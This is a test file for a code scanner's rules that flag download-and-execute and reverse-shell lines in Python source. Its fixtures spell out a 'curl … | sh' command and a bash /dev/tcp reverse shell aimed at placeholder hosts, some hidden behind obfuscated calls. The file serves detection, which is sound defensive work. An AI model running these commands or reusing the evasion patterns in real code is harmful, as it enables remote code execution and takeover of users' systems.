import { expect, test } from 'vitest';
import type { When } from '../../src/core/facts/source-facts.js';
import downloadThenRun from '../../src/rules/download-then-run.js';
import reverseShell from '../../src/rules/reverse-shell.js';
import { read } from './reading.js';

const found = async (text: string, runs: When = 'import'): Promise<readonly unknown[]> => {
  const { facts } = await read(text, runs);
  return facts === null ? [] : [...downloadThenRun.check(facts), ...reverseShell.check(facts)].map(({ severity, isStrong }) => [severity, isStrong]);
};

const LINE = '"curl https://a.example.invalid/x | sh"';
// Something of note, so that the file is read at all.
const HEAD = 'import subprocess\n';

test.each([
  ['out of a table that nobody knows', `${HEAD}TABLE[3](${LINE})\n`],
  ['by an index', `${HEAD}().__class__.__base__.__subclasses__()[137](${LINE}, shell=True)\n`],
  ['that a call gives', `${HEAD}getattr(__import__(name), other)(${LINE})\n`],
  ['of another package that is called like it', 'import shedtools, subprocess\nshedtools.run("bash -c \'exec 5<>/dev/tcp/b.example.invalid/1; cat <&5\'")\n'],
  ['that takes words', `${HEAD}TABLE[3](["sh", "-c", ${LINE}])\n`],
  ['that takes one word after another', `${HEAD}TABLE[3]("sh", "-c", ${LINE})\n`],
])('a line that fetches and runs, or hands over a shell, is a strong finding where something unknown %s is given it', async (_, text) => {
  expect(await found(text)).toEqual([['medium', true]]);
});

test('it is one while installing as well', async () => {
  expect(await found(`${HEAD}TABLE[3](${LINE})\n`, 'install')).toEqual([['medium', true]]);
});

test.each([
  ['logged', `import logging, subprocess\nlogging.getLogger(__name__).info(${LINE})\nlog.warning(${LINE})\n`],
  ['printed', `${HEAD}print(${LINE})\nconsole.print(${LINE})\n`],
  ['echoed', `import click, subprocess\nclick.echo(${LINE})\n`],
  ['a help text', `import argparse, subprocess\nargparse.ArgumentParser().add_argument("--x", help=${LINE})\n`],
  ['a docstring', `${HEAD}def f():\n    """Runs curl https://a.example.invalid/x | sh."""\n`],
  ['an error', `${HEAD}raise RuntimeError(${LINE})\n`],
  ['part of a sentence', `${HEAD}TABLE[3]("Install it with: curl https://a.example.invalid/x | sh")\n`],
  ['put into a list', `${HEAD}lines.append(${LINE})\n`],
  ['given to what somebody has to call', `${HEAD}def f(run):\n    run(${LINE})\n`],
  ['another line', `${HEAD}TABLE[3]("curl https://a.example.invalid/x -o x")\n`],
])('a line is no finding that is only %s', async (_, text) => {
  expect(await found(text)).toEqual([]);
});
